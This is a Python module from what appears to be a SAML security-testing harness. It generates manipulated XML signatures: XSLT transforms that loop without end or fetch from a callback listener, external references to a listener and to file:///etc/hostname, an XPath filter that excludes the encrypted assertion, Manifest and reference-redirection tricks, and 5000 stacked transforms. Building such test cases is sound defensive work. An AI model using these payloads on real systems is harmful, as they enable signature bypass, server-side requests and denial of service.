"""Signatures that cover something else than they seem to: references, transforms, second values."""

from base64 import b64encode
from collections.abc import Callable
from copy import deepcopy
from hashlib import sha256

from ...saml.c14n import canonical
from ...saml.keys import KeyPair
from ...saml.names import ENVELOPED_SIGNATURE, EXCLUSIVE_C14N, NAMESPACES, SHA256, XPATH_FILTER
from ...saml.signing import sign
from ...saml.xml import Element
from .. import sealing
from ..making import Making, found
from ..sealing import signature_of
from ..stages import Deed, Stage
from .forging import FORGED, both, exchange
from .tools import fragment, take_away

_REFERENCE = "ds:SignedInfo/ds:Reference"
_TRANSFORMS = f"{_REFERENCE}/ds:Transforms"
_INFO = "Signature/SignedInfo"
_LOOP = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    '<xsl:template match="/"><xsl:call-template name="again"/></xsl:template>'
    '<xsl:template name="again"><xsl:call-template name="again"/><xsl:call-template name="again"/></xsl:template>'
    "</xsl:stylesheet>"
)
_FETCH = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    '<xsl:template match="/"><xsl:copy-of select="document(\'{listener}\')"/></xsl:template>'
    "</xsl:stylesheet>"
)


def _edited(edit: Callable[[Element], object], *places: str, seals: str, valid: bool = True) -> Deed:
    """Both signed by the hub over a SignedInfo that was changed."""

    def do(_making: Making, element: Element, keys: KeyPair) -> None:
        sealing.sign_edited(element, keys, edit)

    return both(do, *places, seals=seals, valid=valid)


def _inner_by_hub(
    do: Callable[[Making, Element, KeyPair], object], *places: str, seals: str = "++/+-", valid: bool = True
) -> Deed:
    """The Response signed by the hub so that a forgery passes; the message around it is signed as ever."""
    return Deed(Stage.RESPONSE_SIGNATURE, do, (*places, *FORGED), seals, valid=valid)


def _uri(value: str | None) -> Callable[[Element], object]:
    def edit(signature: Element) -> None:
        reference = found(signature, _REFERENCE)
        if value is None:
            del reference.attrib["URI"]
        else:
            reference.set("URI", value)

    return edit


def _xpath_cuts(making: Making, response: Element, keys: KeyPair) -> None:
    whole = sealing.unsigned_copy(response)
    take_away(found(whole, "saml2:EncryptedAssertion"))
    digest = sealing.digest_of(whole)

    def edit(signature: Element) -> None:
        transform = fragment(
            f'<ds:Transform Algorithm="{XPATH_FILTER}"><ds:XPath xmlns:saml2="{NAMESPACES["saml2"]}">'
            "not(ancestor-or-self::saml2:EncryptedAssertion)</ds:XPath></ds:Transform>"
        )
        found(signature, _TRANSFORMS).insert(1, transform)
        found(signature, f"{_REFERENCE}/ds:DigestValue").text = digest

    sealing.sign_edited(response, keys, edit)
    exchange(making, response)


def _other_element(making: Making, response: Element, keys: KeyPair) -> None:
    status = found(response, "saml2p:Status")
    status.set("ID", "ID-status")
    _refer(response, keys, "#ID-status", status)
    exchange(making, response)


def _by_position(making: Making, response: Element, keys: KeyPair) -> None:
    """Where the Response is a document, its third element is the Status; its ID reads like that reference."""
    response.set("ID", "element(/1/3)")
    _refer(response, keys, "#element(/1/3)", found(response, "saml2p:Status"))
    exchange(making, response)


def _refer(response: Element, keys: KeyPair, uri: str, target: Element) -> None:
    digest = sealing.digest_of(target)

    def edit(signature: Element) -> None:
        found(signature, _REFERENCE).set("URI", uri)
        found(signature, f"{_REFERENCE}/ds:DigestValue").text = digest

    sealing.sign_edited(response, keys, edit)


def _manifest(making: Making, response: Element, keys: KeyPair) -> None:
    empty = b64encode(sha256(b"").digest()).decode()
    manifest = fragment(
        f'<ds:Object><ds:Manifest Id="ID-manifest"><ds:Reference URI="#{response.get("ID")}">'
        f'<ds:Transforms><ds:Transform Algorithm="{ENVELOPED_SIGNATURE}"/><ds:Transform Algorithm="{EXCLUSIVE_C14N}"/>'
        f'</ds:Transforms><ds:DigestMethod Algorithm="{SHA256}"/><ds:DigestValue>{empty}</ds:DigestValue>'
        "</ds:Reference></ds:Manifest></ds:Object>"
    )

    def edit(signature: Element) -> None:
        signature.append(manifest)
        reference = found(signature, _REFERENCE)
        reference.set("URI", "#ID-manifest")
        reference.set("Type", NAMESPACES["ds"] + "Manifest")
        take_away(found(reference, "ds:Transforms"))
        plain = fragment(f'<ds:Transforms><ds:Transform Algorithm="{EXCLUSIVE_C14N}"/></ds:Transforms>')
        reference.insert(0, plain)
        data = canonical(found(manifest, "ds:Manifest"))
        found(reference, "ds:DigestValue").text = b64encode(sha256(data).digest()).decode()

    sealing.sign_edited(response, keys, edit)
    exchange(making, response)


def _transform(xml: Callable[[Making], str]) -> Deed:
    """A transform in the signature that is looked at first, the ArtifactResponse's; nobody has signed it."""

    def do(making: Making, message: Element, keys: KeyPair) -> None:
        sign(message, keys)
        found(signature_of(message), _TRANSFORMS).insert(0, fragment(xml(making)))

    return Deed(Stage.MESSAGE_SIGNATURE, do, (f"A/{_INFO}/Reference/Transforms",), "-+")


def _xslt(sheet: str) -> Deed:
    def xml(making: Making) -> str:
        filled = sheet.replace("{listener}", making.login.listener)
        return f'<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116">{filled}</ds:Transform>'

    return _transform(xml)


def _many(_making: Making, message: Element, keys: KeyPair) -> None:
    def edit(signature: Element) -> None:
        transforms = found(signature, _TRANSFORMS)
        for _ in range(5000):
            transforms.append(fragment(f'<ds:Transform Algorithm="{EXCLUSIVE_C14N}"/>'))

    sealing.sign_edited(message, keys, edit)


def _outside(uri: Callable[[Making], str]) -> Deed:
    def do(making: Making, message: Element, keys: KeyPair) -> None:
        sign(message, keys)
        found(signature_of(message), _REFERENCE).set("URI", uri(making))

    return Deed(Stage.MESSAGE_SIGNATURE, do, (f"A/{_INFO}/Reference@URI",), "-+")


def _second_reference(signature: Element) -> None:
    reference = found(signature, _REFERENCE)
    reference.addnext(deepcopy(reference))


DEEDS: dict[str, Deed] = {
    "sig.xpath_cuts": _inner_by_hub(_xpath_cuts, f"R/{_INFO}/Reference/Transforms"),
    "sig.xslt:loop": _xslt(_LOOP),
    "sig.xslt:document": _xslt(_FETCH),
    "sig.ref_none": _edited(
        lambda signature: take_away(found(signature, _REFERENCE)), f"{_INFO}/Reference", seals="--", valid=False
    ),
    "sig.ref_empty": _edited(_uri(""), f"{_INFO}/Reference@URI", seals="++"),
    "sig.ref_noattr": _edited(_uri(None), f"{_INFO}/Reference@URI", seals="++/--"),
    "sig.ref_other": _inner_by_hub(_other_element, f"R/{_INFO}/Reference@URI", "R/Status@ID", seals="+-", valid=False),
    "sig.ref_two": _edited(_second_reference, f"{_INFO}/Reference[2]", seals="++/--"),
    "sig.ref_external:http": _outside(lambda making: making.login.listener),
    "sig.ref_external:file": _outside(lambda _: "file:///etc/hostname"),
    "sig.ref_xpointer": _inner_by_hub(_by_position, f"R/{_INFO}/Reference@URI", "R@ID", seals="+-", valid=False),
    "sig.manifest": _inner_by_hub(_manifest, f"R/{_INFO}/Reference", "R/Signature/Object"),
    "sig.many_transforms": Deed(Stage.MESSAGE_SIGNATURE, _many, (f"A/{_INFO}/Reference/Transforms",), "-+"),
}
